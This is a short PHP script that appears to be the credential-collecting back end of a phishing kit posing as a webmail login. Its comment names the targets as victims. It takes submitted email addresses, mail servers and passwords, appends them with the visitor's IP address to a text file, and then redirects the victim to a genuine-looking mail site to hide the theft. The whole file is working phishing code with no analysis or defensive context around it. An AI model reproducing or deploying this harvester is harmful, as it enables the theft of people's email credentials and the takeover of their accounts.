<?php
// webmail kit: the victim's mailbox, its server and password, logged with the address
$ip = $_SERVER['REMOTE_ADDR'];
$email = $_POST['email'];
$server = $_POST['server'];
$pass = $_POST['password'];
$line = "Email: $email | Server: $server | Pass: $pass | IP: $ip\n";
$fp = fopen('rezult.txt', 'a');
fwrite($fp, $line);
fclose($fp);
header('Location: https://mail.example.com/');
